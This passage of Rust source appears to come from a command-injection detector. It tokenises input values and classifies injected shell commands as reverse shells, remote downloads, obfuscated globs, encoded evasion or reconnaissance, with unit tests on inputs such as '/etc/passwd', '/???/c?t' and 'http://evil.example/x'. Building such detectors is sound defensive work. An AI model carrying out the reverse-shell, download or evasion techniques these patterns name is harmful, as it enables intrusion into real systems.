                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | DYNAMIC))
        {
            return false;
        }
        labels += 1;
        last = label;
    }
    labels >= 2 && !last.is_empty() && last.iter().all(u8::is_ascii_alphabetic)
}

// ---- The walk ----------------------------------------------------------------

/// Where a simple command starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum At {
    /// The start of an as-is value.
    Start,
    /// The start of a quoted reading: its first word is inside the
    /// application's argument, not a command.
    Quoted,
    Sep(Sep),
    Sub(Sub),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Pos {
    at: At,
    /// An injection would plausibly start here (see the module docs).
    credible: bool,
}

/// How far the command word has been read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Name {
    /// At a command position, before the command word (or assignments).
    Expect,
    /// After a wrapper (`nohup`, `busybox`): its command may follow.
    AfterWrapper,
    Named,
    /// No command of the table here.
    None,
}

#[derive(Debug, Clone, Copy)]
struct Cmd {
    pos: Pos,
    /// Raw offset of the simple command's start.
    start: u32,
    words: u8,
    name: Name,
    entry: Option<&'static Entry>,
    name_flags: u16,
    glob: bool,
    args: Args,
    /// It reads the output of a pipe.
    pipe_in: bool,
    /// It is a substitution in a command word: its output is run
    /// (`$(printf '\x69\x64')`, `` `echo id` ``).
    runs_output: bool,
}

impl Cmd {
    fn new(pos: Pos, start: u32) -> Cmd {
        Cmd {
            pos,
            start,
            words: 0,
            name: if pos.at == At::Quoted {
                Name::None
            } else {
                Name::Expect
            },
            entry: None,
            name_flags: 0,
            glob: false,
            args: Args::default(),
            pipe_in: false,
            runs_output: false,
        }
    }
}

/// What ended a simple command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ended {
    End,
    Sep(Sep),
    SubClose,
    Group,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Level {
    /// Bare reconnaissance, a lone delay: only where an injection is
    /// credible.
    Weak,
    Good,
    /// Flagged wherever a command may start.
    Strong,
}

#[derive(Debug, Clone, Copy)]
struct Hit {
    position: CmdiPosition,
    reason: CmdiReason,
    command: Label,
}

const DEPTH: usize = super::shell_lexer::MAX_DEPTH + 1;

struct Walker<'a> {
    input: &'a [u8],
    lexer: Lexer<'a>,
    stack: [Cmd; DEPTH],
    depth: usize,
    /// A bare command that counts if the next one is a command too.
    pending: [Option<Hit>; DEPTH],
    /// A separator was read at the top level.
    separated: bool,
    /// Only injection points, and tricks anywhere: see
    /// [`is_cmdi_at_injection_points`].
    strict: bool,
}

impl<'a> Walker<'a> {
    fn new(input: &'a [u8], context: ShellContext) -> Walker<'a> {
        let (quote, at) = match context {
            ShellContext::AsIs => (Quote::None, At::Start),
            ShellContext::SingleQuoted => (Quote::Single, At::Quoted),
            ShellContext::DoubleQuoted => (Quote::Double, At::Quoted),
        };
        let top = Cmd::new(Pos { at, credible: true }, 0);
        Walker {
            input,
            lexer: Lexer::new(input, quote),
            stack: [top; DEPTH],
            depth: 0,
            pending: [None; DEPTH],
            separated: false,
            strict: false,
        }
    }

    fn cmd(&mut self) -> &mut Cmd {
        &mut self.stack[self.depth.min(DEPTH - 1)]
    }

    fn run(&mut self) -> Option<Hit> {
        // Every pass reads a token, and tokens stop at the cap.
        for _ in 0..super::shell_lexer::MAX_TOKENS + 2 {
            let t = self.lexer.next_token();
            match t.kind {
                Kind::Word => self.word(&t),
                Kind::Redir(r) => {
                    let args = &mut self.cmd().args;
                    if r == Redir::Dup {
                        args.redirect_target(r, &[]);
                    } else {
                        args.target = Some(r);
                    }
                }
                Kind::Sep(sep) => {
                    let done = *self.cmd();
                    if let Some(hit) = self.finish(Ended::Sep(sep)) {
                        return Some(hit);
                    }
                    let credible = self.after(&done, t.start);
                    let mut next = Cmd::new(
                        Pos {
                            at: At::Sep(sep),
                            credible,
                        },
                        t.end,
                    );
                    next.pipe_in = sep == Sep::Pipe;
                    *self.cmd() = next;
                }
                Kind::SubOpen(sub) => {
                    let outer = *self.cmd();
                    self.cmd().args.sub = true;
                    let glued = !self
                        .input
                        .get(outer.start as usize..t.start as usize)
                        .unwrap_or_default()
                        .iter()
                        .any(u8::is_ascii_whitespace);
                    let chained = !self.strict || outer.pos.credible;
                    let credible = ((self.depth > 0 || outer.entry.is_some()) && chained)
                        || (outer.pos.credible && glued);
                    if self.depth + 1 < DEPTH {
                        self.depth += 1;
                        let pos = Pos {
                            at: At::Sub(sub),
                            credible,
                        };
                        let mut inner = Cmd::new(pos, t.end);
                        inner.runs_output = outer.name == Name::Expect && outer.words == 0;
                        *self.cmd() = inner;
                        if let Some(p) = self.pending.get_mut(self.depth) {
                            *p = None;
                        }
                    }
                }
                Kind::SubClose => {
                    if let Some(hit) = self.finish(Ended::SubClose) {
                        return Some(hit);
                    }
                    self.depth = self.depth.saturating_sub(1);
                }
                Kind::GroupOpen => {
                    let c = *self.cmd();
                    if c.name != Name::Expect || c.words > 0 {
                        if let Some(hit) = self.finish(Ended::Group) {
                            return Some(hit);
                        }
                        let pos = Pos {
                            at: c.pos.at,
                            credible: false,
                        };
                        *self.cmd() = Cmd::new(pos, t.end);
                    }
                }
                Kind::GroupClose => {
                    let done = *self.cmd();
                    if let Some(hit) = self.finish(Ended::Group) {
                        return Some(hit);
                    }
                    let pos = Pos {
                        at: done.pos.at,
                        credible: done.entry.is_some() && (!self.strict || done.pos.credible),
                    };
                    *self.cmd() = Cmd::new(pos, t.end);
                }
                Kind::End | Kind::Cap => {
                    // Close what is open, innermost first.
                    loop {
                        let ended = if self.depth > 0 {
                            Ended::SubClose
                        } else {
                            Ended::End
                        };
                        if let Some(hit) = self.finish(ended) {
                            return Some(hit);
                        }
                        if self.depth == 0 {
                            return None;
                        }
                        self.depth -= 1;
                    }
                }
            }
        }
        None
    }

    /// Whether a command after the separator at `at`, which ended `done`,
    /// would plausibly be injected.
    fn after(&mut self, done: &Cmd, at: u32) -> bool {
        // Strict: a position is only as credible as the command list it
        // continues (`curl … | sh` in a post's code block is not).
        let chained = |done: &Cmd, strict: bool| !strict || done.pos.credible;
        if self.depth > 0 {
            return chained(done, self.strict);
        }
        let first = !std::mem::replace(&mut self.separated, true);
        if first {
            let from = match done.pos.at {
                At::Quoted => self.lexer.closed_at().unwrap_or(0),
                _ => done.start,
            };
            let before = self
                .input
                .get(from as usize..at as usize)
                .unwrap_or_default();
            return single_word(before);
        }
        (done.entry.is_some() && chained(done, self.strict))
            || (done.words == 0 && done.pos.credible)
    }

    fn word(&mut self, t: &Token) {
        let cmd = self.cmd();
        if let Some(r) = cmd.args.target.take() {
            cmd.args.redirect_target(r, t.word.bytes());
            return;
        }
        let bytes = t.word.bytes();
        let expecting = matches!(cmd.name, Name::Expect);
        // `X=…` before a command, or `''`: no command (yet).
        if expecting && (t.word.assignment().is_some() || bytes.is_empty()) {
            return;
        }
        cmd.words = cmd.words.saturating_add(1);
        match cmd.name {
            Name::None => {}
            Name::Named => cmd.args.add(bytes, t.flags),
            Name::Expect | Name::AfterWrapper => {
                if cmd.name == Name::AfterWrapper && bytes.starts_with(b"-") {
                    cmd.args.add(bytes, t.flags);
                    return;
                }
                // `$X` holding `cat /etc/passwd`: split into fields.
                let split = t.flags & flags::INDIRECT != 0;
                let mut fields = bytes.split(|b| split && b.is_ascii_whitespace());
                let name = fields.next().unwrap_or_default();
                let mut entry = lookup(name, t.flags);
                // `Type`, `More`, `Echo` opening a sentence are words.
                if cmd.pos.at == At::Start && capitalised(name) {
                    entry = None;
                }
                let mut glob = false;
                if entry.is_none() && t.flags & flags::GLOB != 0 {
                    entry = glob_lookup(name);
                    glob = entry.is_some();
                }
                match entry {
                    Some(e) => {
                        cmd.entry = Some(e);
                        cmd.name_flags = t.flags;
                        cmd.glob = glob;
                        cmd.name = if e.class == Class::Wrapper {
                            Name::AfterWrapper
                        } else {
                            Name::Named
                        };
                        for f in fields.filter(|f| !f.is_empty()) {
                            cmd.args.add(f, t.flags);
                        }
                    }
                    None if cmd.name == Name::AfterWrapper => {
                        cmd.name = Name::Named;
                        cmd.args.add(bytes, t.flags);
                    }
                    None => cmd.name = Name::None,
                }
            }
        }
    }

    /// The simple command on top of the stack ended: a hit, if it is one.
    fn finish(&mut self, ended: Ended) -> Option<Hit> {
        let cmd = *self.cmd();
        let slot = self.depth.min(DEPTH - 1);
        if let Some(hit) = self.pending.get_mut(slot).and_then(Option::take) {
            if cmd.entry.is_some() || cmd.words == 0 {
                return Some(hit);
            }
        }
        let (level, reason, bare) = judge(&cmd, ended)?;
        let position = match cmd.pos.at {
            At::Start => CmdiPosition::Start,
            At::Sub(_) => CmdiPosition::Substitution,
            At::Sep(_) | At::Quoted => CmdiPosition::AfterSeparator,
        };
        let hit = Hit {
            position,
            reason,
            command: Label::lower(cmd.entry.map(|e| e.name).unwrap_or_default().as_bytes()),
        };
        let a = &cmd.args;
        let fed = a.redirect_out;
        // Pipes and redirections: markdown code spans in prose rarely
        // have them (`ping 8.8.8.8`, `curl https://…` are let through).
        let structure = fed || a.redirect_in || ended == Ended::Sep(Sep::Pipe);
        let at = cmd.pos.at;
        let trick = matches!(reason, CmdiReason::Evasion | CmdiReason::Glob);
        let flagged = if at == At::Quoted {
            false
        } else if level == Level::Strong && (cmd.pos.credible || trick || !self.strict) {
            true
        } else if !cmd.pos.credible && self.strict {
            false
        } else if !cmd.pos.credible {
            match at {
                At::Sub(Sub::Backtick) => level == Level::Good && structure,
                At::Sub(_) => level == Level::Good && a.seen & !(kind::OPTION | kind::NUMBER) != 0,
                _ => false,
            }
        } else if at == At::Start && a.max_plain_run >= 2 {
            // `rm -rf is dangerous`: a sentence that starts with a command.
            false
        } else if level == Level::Good || fed {
            true
        } else if !bare {
            // `sleep 5`, `kill -9 1`: not as a whole value.
            at != At::Start
        } else {
            match ended {
                Ended::End | Ended::SubClose | Ended::Group => at != At::Start,
                Ended::Sep(_) => {
                    // Counts if a command follows: `id;ls`, `id;`.
                    if let Some(p) = self.pending.get_mut(slot) {
                        *p = Some(hit);
                    }
                    false
                }
            }
        };
        flagged.then_some(hit)
    }
}

/// `Type`: an upper-case letter, then lower-case ones.
fn capitalised(name: &[u8]) -> bool {
    matches!(name, [first, rest @ ..] if first.is_ascii_uppercase()
        && !rest.is_empty()
        && rest.iter().all(u8::is_ascii_lowercase))
}

/// The text before the first separator is at most one word, not ending
/// like prose (`Steps:`, `Hi,`), or it ends in a closing quote.
fn single_word(before: &[u8]) -> bool {
    let text = before.trim_ascii();
    // ```` ```sh ```` opens a markdown code block, not an argument.
    if text.starts_with(b"```") {
        return false;
    }
    if matches!(text.last(), Some(b'\'' | b'"')) {
        return true;
    }
    let words = text
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .count();
    words == 0 || (words == 1 && !matches!(text.last(), Some(b':' | b',' | b'.' | b'!' | b'?')))
}

/// How strongly `cmd` looks like an injected command, why, and whether it
/// is a bare reconnaissance command (which needs more around it).
fn judge(cmd: &Cmd, ended: Ended) -> Option<(Level, CmdiReason, bool)> {
    use CmdiReason as R;
    use Level::*;
    let e = cmd.entry?;
    let a = &cmd.args;
    if a.dev_tcp {
        return Some((Strong, R::ReverseShell, false));
    }
    if cmd.glob {
        return Some((Strong, R::Glob, false));
    }
    // A command word made by `echo`, `printf`, `rev`, `base64 -d`.
    let generates = matches!(e.class, Class::Echo | Class::Filter | Class::Base64);
    if cmd.runs_output && generates && (a.n > 0 || a.redirect_in) {
        return Some((Strong, R::Evasion, false));
    }
    let verdict = class_verdict(e, cmd, ended);
    let evasive = cmd.name_flags & flags::EVASION != 0 || a.ifs;
    // `{cat,dog}` is a list of words, not a disguised command.
    let prose = a.n > 0 && a.first & kind::PLAIN != 0;
    if evasive && !prose {
        let reason = match verdict {
            Some((_, R::ReverseShell, _)) => R::ReverseShell,
            _ => R::Evasion,
        };
        return Some((Strong, reason, false));
    }
    verdict
}

fn class_verdict(e: &Entry, cmd: &Cmd, ended: Ended) -> Option<(Level, CmdiReason, bool)> {
    use CmdiReason as R;
    use Level::*;
    let a = &cmd.args;
    let first = a.first;
    let has = |k: u16| a.seen & k != 0;
    let first_is = |k: u16| first & k != 0;
    let in_words = e
        .words
        .iter()
        .any(|w| w.as_bytes() == a.first_word.as_str().as_bytes());
    let name = e.name;
    let shellish = kind::OPTION | kind::PATH | kind::SLASH_OPTION | kind::OTHER | kind::DOTTED;
    match e.class {
        Class::Recon | Class::List if a.n == 0 => Some((Weak, R::Recon, true)),
        Class::Recon => {
            (first_is(shellish | kind::IP) || in_words).then_some((Good, R::Recon, false))
        }
        Class::List => {
            (first_is(shellish | kind::GLOB) || in_words).then_some((Good, R::Recon, false))
        }
        Class::CmdRecon => {
            let cmd_sep = !matches!(cmd.pos.at, At::Sep(Sep::Semi) | At::Start);
            (a.n == 0 && cmd_sep).then_some((Weak, R::Recon, true))
        }
        Class::Reader => {
            let ok = first_is(kind::OPTION | kind::PATH | kind::DOTTED | kind::GLOB)
                || (has(kind::PATH) && !first_is(kind::PLAIN))
                || (name == "chmod" && first_is(kind::NUMBER | kind::OTHER) && a.n > 1)
                || a.redirect_in;
            ok.then_some((Good, R::Command, false))
        }
        Class::Net => {
            let nc = matches!(
                name,
                "nc" | "nc.openbsd" | "nc.traditional" | "ncat" | "netcat"
            );
            let exec = nc && a.marks & mark::EXEC != 0;
            if exec || a.marks & mark::EXEC_ADDRESS != 0 {
                return Some((Strong, R::ReverseShell, false));
            }
            if first_is(kind::PLAIN) {
                return None;
            }
            let target = has(kind::URL | kind::IP | kind::DOTTED) || a.sub;
            let reason = match name {
                "curl" | "wget" | "tftp" | "ftp" if target => R::Download,
                "ping" if a.marks & mark::COUNT != 0 => R::Delay,
                _ => R::Command,
            };
            (target || first_is(kind::OPTION)).then_some((Good, reason, false))
        }
        Class::Interp => {
            if a.marks & mark::CRADLE != 0 && matches!(name, "powershell" | "pwsh") {
                return Some((Strong, R::Download, false));
            }
            if a.marks & mark::ENCODED != 0 && matches!(name, "powershell" | "pwsh") {
                return Some((Strong, R::Interpreter, false));
            }
            let fetch = match name {
                "certutil" | "bitsadmin" => a.marks & mark::FETCH != 0,
                "mshta" | "rundll32" | "regsvr32" => a.marks & mark::REMOTE != 0,
                _ => false,
            };
            if fetch {
                return Some((Strong, R::Download, false));
            }
            if first_is(kind::PLAIN) {
                return None;
            }
            if cmd.pipe_in {
                return Some((Strong, R::Interpreter, false));
            }
            let ok = match name {
                "cmd" => a.marks & mark::CMD_RUN != 0,
                _ => {
                    first_is(kind::OPTION | kind::SLASH_OPTION | kind::PATH | kind::DOTTED)
                        || has(kind::URL)
                        || a.redirect_in
                }
            };
            ok.then_some((Good, R::Interpreter, false))
        }
        Class::Echo => {
            (a.redirect_out || ended == Ended::Sep(Sep::Pipe)).then_some((Good, R::Command, false))
        }
        Class::Sleep => {
            let lone = a.n == 1 && first_is(kind::NUMBER);
            let windows = a.n == 2 && a.marks & mark::COUNT != 0;
            (lone || windows).then_some((Weak, R::Delay, false))
        }
        Class::Kill => first_is(kind::OPTION | kind::NUMBER).then_some((Weak, R::Command, false)),
        Class::Wrapper => (name == "env" && a.n == 0).then_some((Weak, R::Recon, true)),
        Class::Filter => (a.redirect_in || cmd.pipe_in).then_some((Good, R::Command, false)),
        Class::Script => {
            let ok =
                first_is(kind::OPTION | kind::PATH) || (a.first_quoted && !first_is(kind::PLAIN));
            ok.then_some((Good, R::Command, false))
        }
        Class::Base64 => (a.marks & mark::DECODE != 0 || first_is(kind::PATH | kind::DOTTED))
            .then_some((Good, R::Command, false)),
        Class::WinNet => in_words.then_some((Good, R::Recon, false)),
        Class::Eval => (a.n > 0 && (a.first_quoted || !first_is(kind::PLAIN))).then_some((
            Good,
            R::Interpreter,
            false,
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_is_sorted_for_binary_search() {
        for pair in TABLE.windows(2) {
            if let [a, b] = pair {
                assert!(a.name < b.name, "{} before {}", a.name, b.name);
            }
        }
    }

    #[test]
    fn command_names_lose_their_path_and_suffix() {
        let name = |s: &str| lookup(s.as_bytes(), 0).map(|e| e.name);
        assert_eq!(name("cat"), Some("cat"));
        assert_eq!(name("/bin/cat"), Some("cat"));
        assert_eq!(name("//usr/./bin/id"), Some("id"));
        assert_eq!(name("/usr/local/bin/wget"), Some("wget"));
        assert_eq!(name("/home/x/cat"), None);
        assert_eq!(name("C:\\Windows\\System32\\cmd.exe"), Some("cmd"));
        assert_eq!(name("WHOAMI.EXE"), Some("whoami"));
        assert_eq!(name("python3.11"), Some("python"));
        assert_eq!(name("Cat"), None);
        assert_eq!(name("ID"), None);
        assert_eq!(name("PowerShell"), Some("powershell"));
    }

    #[test]
    fn globs_match_binaries_as_the_shell_would() {
        let glob = |s: &str| glob_lookup(s.as_bytes()).map(|e| e.name);
        assert_eq!(glob("/???/c?t"), Some("cat"));
        assert_eq!(glob("/b??/ca*"), Some("cat"));
        assert_eq!(glob("/usr/bin/i?"), Some("id"));
        assert_eq!(glob("/bin/[c]at"), Some("cat"));
        assert_eq!(glob("/*/id"), Some("id"));
        assert_eq!(glob("/*"), None);
        assert_eq!(glob("/search?q=x"), None);
        assert!(glob_match(b"/b[!x]n/c*", b"/bin/cat"));
        assert!(!glob_match(b"/b*t", b"/bin/cat"));
    }

    #[test]
    fn arguments_are_told_apart() {
        let k = |s: &str| kinds(s.as_bytes(), 0);
        assert_eq!(k("-la"), kind::OPTION);
        assert_ne!(k("/etc/passwd") & kind::SYSTEM_PATH, 0);
        assert_ne!(k("/c") & kind::SLASH_OPTION, 0);
        assert_eq!(k("http://evil.example/x"), kind::URL);
        assert_eq!(k("1.2.3.4:4444"), kind::IP);
        assert_eq!(k("evil.example"), kind::DOTTED);
        assert_eq!(k("flag.txt"), kind::DOTTED);
        assert_eq!(k("10"), kind::NUMBER);
        assert_eq!(k("lovers"), kind::PLAIN);
        assert_eq!(k("P@ss"), kind::OTHER);
        assert_eq!(k("e.g."), kind::OTHER);
        assert_eq!(k("3.14"), kind::OTHER);
    }
}
